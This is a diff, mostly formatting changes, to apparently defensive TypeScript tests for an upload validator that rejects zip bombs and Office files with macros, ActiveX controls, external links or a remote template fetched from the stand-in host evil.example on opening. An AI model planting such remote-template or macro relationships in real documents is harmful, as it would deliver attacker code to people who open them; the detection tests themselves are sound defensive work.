@@ -19,7 +19,10 @@ const lists = {
 };
 
 async function fileErrorOf(promise: Promise<unknown>) {
-  const error = await promise.then(() => null, (e: unknown) => e);
+  const error = await promise.then(
+    () => null,
+    (e: unknown) => e,
+  );
   expect(error).toBeInstanceOf(ValidationError);
   return (error as ValidationError).fieldErrors.file;
 }
@@ -78,7 +81,11 @@ describe("zip bombs in the task import", () => {
 
   it("counts while inflating: a part that inflates past its declared size is stopped right after it", async () => {
     const bomb = xlsxBomb(64, 10_000);
-    const inspection = await inspectOfficePackage(bomb, { maxEntryBytes: 100 * MEBIBYTE, maxTotalBytes: 100 * MEBIBYTE }, { inflateAll: true });
+    const inspection = await inspectOfficePackage(
+      bomb,
+      { maxEntryBytes: 100 * MEBIBYTE, maxTotalBytes: 100 * MEBIBYTE },
+      { inflateAll: true },
+    );
     expect(inspection).toEqual({ ok: false, reason: "too_large" });
   });
 
@@ -95,52 +102,123 @@ describe("zip bombs in the task import", () => {
 });
 
 const VBA_TYPE = "application/vnd.ms-office.vbaProject";
-const rels = (...relationships: string[]) => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join("")}</Relationships>`;
-const types = (...entries: string[]) => `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${entries.join("")}</Types>`;
+const rels = (...relationships: string[]) =>
+  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join("")}</Relationships>`;
+const types = (...entries: string[]) =>
+  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${entries.join("")}</Types>`;
 const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
 
 describe("active content read from the package's description", () => {
   it.each([
-    ["a VBA project renamed, declared by its content type", { "xl/data/x.bin": "x" }, types(`<Override PartName="/xl/data/x.bin" ContentType="${VBA_TYPE}"/>`), rels()],
-    ["a macro-enabled workbook (.xlsm main part)", {}, types(`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>`), rels()],
+    [
+      "a VBA project renamed, declared by its content type",
+      { "xl/data/x.bin": "x" },
+      types(`<Override PartName="/xl/data/x.bin" ContentType="${VBA_TYPE}"/>`),
+      rels(),
+    ],
+    [
+      "a macro-enabled workbook (.xlsm main part)",
+      {},
+      types(`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>`),
+      rels(),
+    ],
     ["a VBA project as a default extension", {}, types(`<Default Extension="bin" ContentType="${VBA_TYPE}"/>`), rels()],
-    ["a relationship to a VBA project under another name", {}, types(), rels(`<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.dat"/>`)],
-    ["an ActiveX control", {}, types(), rels(`<Relationship Id="r1" Type="${R}/control" Target="../activeX/activeX1.xml"/><Relationship Id="r2" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="a.bin"/>`)],
-    ["a link to an external workbook", {}, types(), rels(`<Relationship Id="r1" Type="${R}/externalLink" Target="externalLinks/externalLink1.xml"/>`)],
-    ["a remote template (fetched on opening)", {}, types(), rels(`<Relationship Id="r1" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`)],
-    ["a content type spelled with character references", {}, types(`<Override PartName="/a.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>`), rels()],
+    [
+      "a relationship to a VBA project under another name",
+      {},
+      types(),
+      rels(`<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.dat"/>`),
+    ],
+    [
+      "an ActiveX control",
+      {},
+      types(),
+      rels(
+        `<Relationship Id="r1" Type="${R}/control" Target="../activeX/activeX1.xml"/><Relationship Id="r2" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="a.bin"/>`,
+      ),
+    ],
+    [
+      "a link to an external workbook",
+      {},
+      types(),
+      rels(`<Relationship Id="r1" Type="${R}/externalLink" Target="externalLinks/externalLink1.xml"/>`),
+    ],
+    [
+      "a remote template (fetched on opening)",
+      {},
+      types(),
+      rels(`<Relationship Id="r1" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`),
+    ],
+    [
+      "a content type spelled with character references",
+      {},
+      types(`<Override PartName="/a.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>`),
+      rels(),
+    ],
     ["single-quoted attributes and a prefix", {}, types(`<ct:Override PartName='/a.bin' ContentType='${VBA_TYPE}'/>`), rels()],
   ])("refuses %s", async (_, extraParts, contentTypes, relationships) => {
-    const bytes = buildZip({ "[Content_Types].xml": contentTypes, "_rels/.rels": relationships, "xl/workbook.xml": "<workbook/>", "xl/_rels/workbook.xml.rels": relationships, ...extraParts });
+    const bytes = buildZip({
+      "[Content_Types].xml": contentTypes,
+      "_rels/.rels": relationships,
+      "xl/workbook.xml": "<workbook/>",
+      "xl/_rels/workbook.xml.rels": relationships,
+      ...extraParts,
+    });
     const inspection = await inspectOfficePackage(bytes, SPREADSHEET_INFLATE_BUDGET, { inflateAll: true });
     expect(inspection.ok).toBe(false);
     expect(await fileErrorOf(readTaskSheet(bytes))).toEqual(["file_has_active_content"]);
   });
 
   it("reads a description written in UTF-16", async () => {
-    const utf16 = new Uint8Array([0xff, 0xfe, ...new Uint8Array(Buffer.from(types(`<Override PartName="/a.bin" ContentType="${VBA_TYPE}"/>`), "utf16le"))]);
+    const utf16 = new Uint8Array([
+      0xff,
+      0xfe,
+      ...new Uint8Array(Buffer.from(types(`<Override PartName="/a.bin" ContentType="${VBA_TYPE}"/>`), "utf16le")),
+    ]);
     const bytes = buildZip({ "[Content_Types].xml": utf16, "xl/workbook.xml": "<workbook/>" });
-    expect(await inspectOfficePackage(bytes, SPREADSHEET_INFLATE_BUDGET, { inflateAll: false })).toMatchObject({ ok: false, reason: "macro_content_type" });
+    expect(await inspectOfficePackage(bytes, SPREADSHEET_INFLATE_BUDGET, { inflateAll: false })).toMatchObject({
+      ok: false,
+      reason: "macro_content_type",
+    });
   });
 
   it("accepts hyperlinks to the web and ordinary parts", () => {
     expect(
       findPackageHazards({
         names: ["[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels"],
-        contentTypes: types(`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>`),
-        relationships: [rels(`<Relationship Id="r1" Type="${R}/hyperlink" Target="https://mofa.gov.vn" TargetMode="External"/>`, `<Relationship Id="r2" Type="${R}/styles" Target="styles.xml"/>`)],
+        contentTypes: types(
+          `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>`,
+        ),
+        relationships: [
+          rels(
+            `<Relationship Id="r1" Type="${R}/hyperlink" Target="https://mofa.gov.vn" TargetMode="External"/>`,
+            `<Relationship Id="r2" Type="${R}/styles" Target="styles.xml"/>`,
+          ),
+        ],
       }),
     ).toEqual([]);
   });
 
   it("finds the same when only the description is inflated (attachments)", async () => {
-    const docm = buildZip({ "[Content_Types].xml": types(`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`), "word/document.xml": "<w:document/>" });
-    expect(await inspectOfficePackage(docm, SPREADSHEET_INFLATE_BUDGET, { inflateAll: false })).toEqual({ ok: false, reason: "macro_content_type" });
+    const docm = buildZip({
+      "[Content_Types].xml": types(
+        `<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`,
+      ),
+      "word/document.xml": "<w:document/>",
+    });
+    expect(await inspectOfficePackage(docm, SPREADSHEET_INFLATE_BUDGET, { inflateAll: false })).toEqual({
+      ok: false,
+      reason: "macro_content_type",
+    });
   });
 
   it("reads a long crafted description in linear time", () => {
     const started = performance.now();
-    findPackageHazards({ names: [], contentTypes: "<Override ContentType=\"".repeat(100_000), relationships: ["<Relationship Type='".repeat(100_000), "<Relationship ".repeat(100_000)] });
+    findPackageHazards({
+      names: [],
+      contentTypes: '<Override ContentType="'.repeat(100_000),
+      relationships: ["<Relationship Type='".repeat(100_000), "<Relationship ".repeat(100_000)],
+    });
     expect(performance.now() - started).toBeLessThan(500);
   });
 });
